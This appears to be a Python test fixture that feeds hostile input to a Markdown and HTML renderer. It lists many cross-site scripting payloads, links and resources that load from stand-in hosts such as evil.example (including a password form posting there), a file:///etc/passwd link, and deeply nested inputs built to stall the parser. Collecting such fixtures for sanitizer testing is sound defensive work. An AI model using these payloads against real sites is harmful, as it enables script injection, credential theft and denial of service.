"""What somebody with ill intent might type."""

RAW = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script>//
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"/>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=javascript:alert(1)>
<img src=https://tracker.example/pixel.gif>
<img src=//tracker.example/pixel.gif>
<img srcset="https://tracker.example/x 1x">
<img src="/media/x.png" srcset="/media/x.png 480w, https://tracker.example/x.png 960w">
<img src="/media/x.png" sizes="99999px" width="99999">
<img/src="x"/onload=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href=# onclick=alert(1)>x</a>
<a href="https://example.org" target=_blank style="position:fixed">x</a>
<body onload=alert(1)>
<div onmouseover=alert(1)>x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div class="block admin">x</div>
<div id=main>x</div>
<p style="font-size:99em">x</p>
<style>*{display:none}</style>
<style>@import 'https://evil.example/x.css';</style>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action=https://evil.example><input name=password></form>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<select><option>x</select>
<textarea>x</textarea>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<!--><script>alert(1)</script-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<x onclick=alert(1)>x</x>
<font color=red>x</font>
</p><script>alert(1)</script>
</div></section></main><h1>Taken over</h1>
<a/href="javascript:alert(1)">x</a>
<frameset onload=alert(1)><frame src=x>
<table background=javascript:alert(1)><tr><td>x</table>
'''.strip().split("\n")

IN_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java%73cript:alert(1))
[x](\javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/png;base64,AAAA)
[x](vbscript:msgbox)
[x](file:///etc/passwd)
[x](//evil.example)
[x](/\evil.example)
[x](\\\\evil.example)
[x](https:evil.example)
[x](http://a"onmouseover="alert(1))
[x](/a" onclick="alert(1))
[x](/a "t" onclick=alert(1))
[x](/a '"><script>alert(1)</script>')
[x](/a (<b onclick=alert(1)>))
[<script>alert(1)</script>](/a)
[x]: javascript:alert(1)
[y][x]  [x]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
<https://a"onclick=alert(1)>
<x@y" onclick=alert(1)>
![x](javascript:alert(1))
![x](https://tracker.example/pixel.gif)
![x](//tracker.example/pixel.gif)
![x](/\tracker.example/pixel.gif)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](illustration:../../admin/x)
![x](illustration:x" onerror="alert(1))
![x](/media/x.png" onerror="alert(1))
![x](/media/../accounts/export/)
![x](/media//evil.example/x.png)
![x](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.jpg" srcset="//evil.example/x.png 9w)
![x](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.jpg%20480w,//evil.example/x.png)
![x](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.jpg?480w,https://evil.example/x.png)
![decorative" onerror="alert(1)](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.png)
!["><script>alert(1)</script>](/media/x.png)
!["onerror="alert(1)](illustration:x '"onload="alert(1)')
[![x](/media/x.png)](javascript:alert(1))
`<script>alert(1)</script>`
``` <script>alert(1)</script>
```js" onclick="alert(1)
# <img src=x onerror=alert(1)> {#x}
## x {#x" onclick="alert(1)}
## x {#x .red style=color:red}
## <script>alert(1)</script> {#key}
## ![x](https://tracker.example/pixel.gif) {#key}
::: note" onclick="alert(1)
::: note <script>alert(1)</script>
::: emergency {.x style=y}
[@one" onclick="alert(1)]
[@<script>]
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
<ftp://example.org>
{: onclick="alert(1)"}
*x*{onclick=alert(1)}
[x](/a){target=_blank onclick=alert(1)}
mitral valve" onmouseover="alert(1)
&NewLine;javascript&colon;alert(1)
""".strip().split("\n")

# 20 KB of each must be rendered in the time of a sigh.
SIZE = 20_000
HOSTILE = [
    "[", "]", "[[]", "![", "[a](", "[a](b", "(", "*", "**a ", "*a_ ", "_", "a**b", "`", "``` ", "`a", "~", "<", "<a ",
    "<!--", "<![CDATA[", "&", "&amp", "&#x", "\\", "\\[", "|", "|-", "a|b\n-|-\n", "| a ", "> ", ">\n", "- ", "- a\n",
    "1. ", "# ", "## a {#a}\n", "{#", "::: note\n", ":::\n", "::: story\n",
    "::: check\n- [x] a\n:::\n", "::: chance\n1 out of 100\n:::\n", ":", "[@a", "[@a; ", "[@a]", "[a]: b\n", "[a][",
    "\n",
    "\t", " ", "  \n", "a", "\x00", "\u2028", "é", "\U0001f600", "mitral ", "mitral valve ", "http://",
    "a@b.c ", "<a@b.c>",
    "!", "===\n", "a\n=\n", "---\n", "+++\n", '"', "'", "![a](/media/a.png)", "[a](<", '[a](b "', "-\n ", "* * ", "\r",
]  # fmt: skip
NESTED = {
    "lists in lists": "".join(f"{' ' * depth}- a\n" for depth in range(190)),
    "quotations in quotations": "".join(f"{'> ' * depth}a\n" for depth in range(140)),
    "brackets that close late": "[" * 9_999 + "a" + "](b)" * 2_500,
    "stars that close late": "*" * 9_999 + "a" + "*" * 9_999,
    "backticks of every length": "".join("`" * count for count in range(1, 199)),
    "blocks in blocks": "::: note\n" * 1_100 + "a\n" + ":::\n" * 2_500,
    "a wide table": "| " * 5_000 + "\n" + "|-" * 5_000 + "\n",
    "a long table": "|a" * 100 + "\n" + "|-" * 100 + "\n" + ("|" * 100 + "\n") * 195,
    "a far key": "a" + " " * 19_990 + "{#a}",
    "keys in keys": "## " + "{#a" * 6_600,
    "a long citation": "[@a" + ";@a" * 6_600,
}
